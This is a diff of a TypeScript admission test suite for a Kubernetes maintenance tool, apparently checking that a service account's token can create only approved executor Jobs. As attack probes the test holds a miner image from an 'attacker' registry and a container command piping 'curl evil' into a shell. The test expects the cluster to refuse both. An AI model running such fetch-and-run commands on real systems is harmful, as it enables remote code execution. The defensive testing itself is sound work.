@@ -41,6 +41,7 @@ import { MERGE_PATCH } from '../../src/adapters/kube/nodes.js';
 import { decisionName } from '../../src/adapters/kube/requests.js';
 import { ANN_REQUEST } from '../../src/core/names.js';
 import type { MaintenanceRequest } from '../../src/core/request.js';
+import { buildExecutorJob } from '../../templates/executor-job.js';
 import type { Identities } from './sim-identities.js';
 import { testControlSettings } from './control.js';
 import { requestReader } from './requests.js';
@@ -132,6 +133,8 @@ async function apply(api: KubernetesObjectApi, object: KubernetesObject): Promis
     await api.create(object);
   } catch (error) {
     if (!(error instanceof ApiException) || error.code !== 409) throw error;
+    // A pod's spec cannot change once created: the one there (a run before, on a kept cluster) does.
+    if (object.kind === 'Pod') return;
     const current = await api.read(object as never);
     await api.replace({
       ...object,
@@ -291,6 +294,19 @@ export function attackSuite(start: () => Promise<AttackBackend>): void {
           },
           // Bare Node objects never turn Ready on the real apiserver: not what this suite tests.
           blockers: { podSelectors: [], maxUnhealthyNodes: { count: 1_000 } },
+          // The real template: admission lets the control plane create nothing else.
+          jobFor: (node, id) =>
+            buildExecutorJob({
+              node,
+              requestId: id,
+              namespace: NS,
+              image: 'ghcr.io/kubemaint/kubemaint:0.1.0',
+              serviceAccountName: 'kubemaint-executor',
+              rebootMethod: 'signal',
+              activeDeadlineSeconds: 600,
+              ttlSecondsAfterFinished: 600,
+              settingsJson: '{}',
+            }) as Record<string, unknown>,
         }),
         clock: { now: () => new Date() },
         randomBytes: (n) => new Uint8Array(randomBytes(n)),
@@ -583,6 +599,72 @@ export function attackSuite(start: () => Promise<AttackBackend>): void {
       const after = await reader.byId('r-f0f0f0');
       assert.equal(after?.state, 'failed');
       assert.match(after?.failure ?? '', /no MaintenanceApproval backs: k8s:alice, k8s:bob/);
+    });
+
+    it('serve’s own token creates only executor Jobs and writes only its pause switch', async () => {
+      const serve = config(backend.identities.serviceAccountKubeconfig(NS, 'kubemaint-serve'));
+      const jobs = serve.makeApiClient(BatchV1Api);
+      const job = buildExecutorJob({
+        node: NODE_A,
+        requestId: 'r-0a0a0a',
+        namespace: NS,
+        image: 'ghcr.io/kubemaint/kubemaint:0.1.0',
+        serviceAccountName: 'kubemaint-executor',
+        rebootMethod: 'signal',
+        activeDeadlineSeconds: 600,
+        ttlSecondsAfterFinished: 600,
+        settingsJson: '{}',
+      });
+      const container = job.spec!.template.spec!.containers[0]!;
+      const shapes: [string, object, RegExp][] = [
+        [
+          'another image',
+          { image: 'docker.io/attacker/miner:latest' },
+          /the executor image docker.io\/attacker\/miner:latest is not one of ghcr.io\/kubemaint\/kubemaint/,
+        ],
+        [
+          'a shell',
+          { command: ['sh', '-c', 'curl evil | sh'] },
+          /runs `executor --node N --request R` on node N/,
+        ],
+        [
+          'another node',
+          { args: ['executor', '--node', NODE_B, '--request', 'r-0a0a0a'] },
+          /on node N, nothing else/,
+        ],
+      ];
+      for (const [what, change, why] of shapes) {
+        const body = structuredClone(job);
+        body.metadata!.name = `attack-${what.replace(/\s/g, '-')}`;
+        Object.assign(body.spec!.template.spec!.containers[0]!, container, change);
+        const answer = await refused(`serve token: Job with ${what}`, () =>
+          jobs.createNamespacedJob({ namespace: NS, body }),
+        );
+        assert.equal(answer.code, 403, what);
+        assert.match(answer.message, why);
+      }
+      const asRoot = structuredClone(job);
+      asRoot.metadata!.name = 'attack-other-account';
+      asRoot.spec!.template.spec!.serviceAccountName = 'default';
+      const account = await refused('serve token: Job as another account', () =>
+        jobs.createNamespacedJob({ namespace: NS, body: asRoot }),
+      );
+      assert.match(account.message, /runs as kubemaint-executor/);
+      const config_ = await refused('serve token: its own configuration', () =>
+        serve.makeApiClient(CoreV1Api).createNamespacedConfigMap({
+          namespace: NS,
+          body: {
+            metadata: { name: 'kubemaint-config' },
+            data: { 'kubemaint.yaml': 'approval: {}' },
+          },
+        }),
+      );
+      assert.equal(config_.code, 403);
+      assert.match(
+        config_.message,
+        /may write only the kubemaint-pause ConfigMap, not kubemaint-config/,
+      );
+      await nodeAUntouched('serve token');
     });
 
     it('one approver twice counts once, her Slack self is the same person, and alice + bob get their Job', async () => {
